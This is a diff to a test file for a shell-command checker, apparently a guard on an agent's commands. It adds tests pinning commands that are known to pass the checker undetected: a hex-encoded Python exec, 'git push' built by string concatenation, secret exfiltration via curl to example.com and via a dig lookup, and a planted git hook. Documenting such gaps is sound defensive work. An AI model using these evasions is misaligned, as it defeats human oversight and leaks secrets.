@@ -175,3 +175,18 @@ test('no text whatever breaks the reading, and a push in the middle of any plain
     expect(parseShell(text).complete).toBe(true)
   }))
 })
+
+// docs/threat-model.md tells of these: whoever makes one of them found may take it out there.
+describe('what is known to pass', () => {
+  it.each([
+    './deploy-tool now',
+    'gp',
+    "python3 -c \"exec(bytes.fromhex('6f732e73797374656d'))\"",
+    "python3 -c \"import os; os.system('g' + 'it pu' + 'sh')\"",
+    'curl "https://example.com/?secret=1"',
+    'dig secret.example.com',
+    'echo hook > .git/hooks/post-commit',
+  ])('%s', (command) => {
+    expect(all(inCommand(command))).toEqual([])
+  })
+})
